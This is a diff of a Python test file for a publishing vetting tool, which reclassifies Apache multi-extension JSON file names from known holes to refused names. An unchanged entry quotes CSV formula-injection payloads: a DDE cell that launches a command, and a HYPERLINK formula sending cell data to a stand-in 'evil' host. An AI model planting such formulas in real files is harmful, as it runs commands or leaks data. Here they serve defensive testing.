@@ -92,28 +92,21 @@ def run(tmp_path_factory):
     return {**vetted, "seconds": time.monotonic() - start}
 
 
-_APACHE = (
-    "published: Apache types a name by its rightmost extension that has a type (vmguard's own "
-    "rule for pages: page.html.en and feed.xml.dat are refused), so it serves this as {type}; a "
-    "client parses it as JSON and drops the text's free white space (json.loads returns the "
-    "compact document's value): the JSON-name pin checks the last extension only"
-)
+# Fixed (session 35, icfix): served.served_by is the one answer to "which extension does a
+# server type this name by", for pages, JSON names and gunzip's names; these are refused.
 _GEO, _JSON = "application/geo+json", "application/json"
+JSON_NAMED: dict[str, str] = {  # name -> the JSON type Apache sends it as (gunzip's name for a .gz)
+    "apache-multi.json.dat": _JSON,
+    "apache-multi.geojson.out": _GEO,
+    "apache-lang.json.en": _JSON,
+    "apache-charset.json.utf8": _JSON,
+    "apache-multi.webmanifest.1": "application/manifest+json",
+    "apache-upper.JSON.dat": _JSON,
+    "apache-dots.json..dat": _JSON,
+    "gz-loose.geojson.en.gz": _GEO,
+    "gz-loose.json.dat.gz": _JSON,
+}
 HOLES: dict[str, str] = {
-    "apache-multi.json.dat": _APACHE.format(type=f"{_JSON} (.dat has none)"),
-    "apache-multi.geojson.out": _APACHE.format(type=f"{_GEO} (.out has none)"),
-    "apache-lang.json.en": _APACHE.format(type=f"{_JSON} (.en is a language: AddLanguage)"),
-    "apache-charset.json.utf8": _APACHE.format(type=f"{_JSON} (.utf8 a charset: AddCharset)"),
-    "apache-multi.webmanifest.1": _APACHE.format(type="application/manifest+json (.1 has none)"),
-    "apache-upper.JSON.dat": _APACHE.format(type=f"{_JSON} (mod_mime's extensions are case-blind)"),
-    "apache-dots.json..dat": _APACHE.format(type=f"{_JSON} (an empty extension is skipped)"),
-    "gz-loose.geojson.en.gz": _APACHE.format(
-        type=f"{_GEO} once unpacked: gunzip names the inner file x.geojson.en"
-    ),
-    "gz-loose.json.dat.gz": _APACHE.format(
-        type=f"{_JSON} once unpacked: gunzip names the inner file x.json.dat (vmguard judges that name, as "
-        "it refuses the same text in x.json.gz)"
-    ),
     "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
     "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
     'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
@@ -186,10 +179,10 @@ def test_a_name_whose_last_extension_apache_types_is_judged_by_it(run, name):
 
 
 def test_the_json_name_holes_are_json_to_a_client():
-    """What makes them holes: a client's JSON parser returns what the compact document
-    holds, so the published spaces are bytes no reader returns."""
+    """Why they are refused (JSON_NAMED, holes before session 35): a client's JSON parser
+    returns what the compact document holds, so the spaces would be bytes no reader returns."""
     compact = json.loads(json.dumps(json.loads(made.LOOSE_JSON), separators=(",", ":")))
-    for name in (n for n in HOLES if n.startswith(("apache-", "gz-"))):
+    for name in JSON_NAMED:
         data = FILES[name]
         data = gzip.decompress(data) if name.endswith(".gz") else data
         assert json.loads(data) == compact, name
@@ -198,10 +191,10 @@ def test_the_json_name_holes_are_json_to_a_client():
 
 @pytest.mark.skipif(not apache.available(), reason="Debian's apache2 is not installed")
 def test_apache_serves_the_json_name_holes_as_json():
-    """The claim HOLES rest on, asked of a real Apache 2.4 with Debian's mime.conf: each
-    published name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
+    """The claim JSON_NAMED rests on, asked of a real Apache 2.4 with Debian's mime.conf: each
+    name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
     rightly published are not."""
-    holes = {n.removesuffix(".gz"): n for n in HOLES if n.startswith(("apache-", "gz-"))}
+    holes = {n.removesuffix(".gz"): n for n in JSON_NAMED}
     with apache.serving([*holes, *made.LAST_TYPED]) as sent:
         for name in holes:
             assert sent[name].split(";")[0].endswith("json"), (name, sent[name])
